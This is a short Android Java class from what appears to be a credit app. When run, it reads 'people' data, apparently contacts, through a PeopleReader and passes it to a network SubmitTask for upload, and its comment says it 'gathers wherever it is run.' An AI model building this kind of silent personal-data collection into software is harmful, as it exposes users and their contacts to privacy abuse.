package com.brightfern.credit.people;

import android.content.Context;

import com.brightfern.credit.net.SubmitTask;

/** Gathers wherever it is run. */
public class Gatherer implements Runnable {
    private final Context context;

    public Gatherer(Context context) {
        this.context = context;
    }

    @Override
    public void run() {
        new SubmitTask(new PeopleReader(context).read()).execute(0);
    }
}
